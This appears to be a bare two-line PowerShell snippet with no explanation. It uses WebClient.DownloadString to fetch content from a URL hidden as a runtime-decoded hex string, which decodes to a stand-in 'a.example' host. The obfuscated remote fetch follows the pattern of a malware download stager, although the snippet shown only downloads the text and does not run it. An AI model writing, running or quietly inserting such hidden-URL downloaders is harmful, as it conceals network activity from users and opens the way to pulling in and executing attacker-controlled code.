$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ('687474703a2f2f612e6578616d706c652f702f782e747874' -split '(..)' -ne '' | %{[char][convert]::ToInt32($_,16)})))
